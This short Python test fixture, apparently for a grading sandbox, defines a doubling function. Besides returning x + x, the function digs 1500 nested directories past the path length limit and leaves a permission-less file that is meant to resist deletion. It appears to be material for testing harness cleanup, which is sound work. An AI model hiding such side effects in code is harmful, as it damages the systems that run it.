"""Leaves folders nested deeper than any path is long, with files that nobody may remove."""
# expect: double=passed loss=passed find=passed
# with: right
import os


def double(x):
    for _ in range(1500):
        os.mkdir("d" * 50)
        os.chdir("d" * 50)
    with open("file", "w") as file:
        file.write("here")
    os.chmod("file", 0)
    return x + x
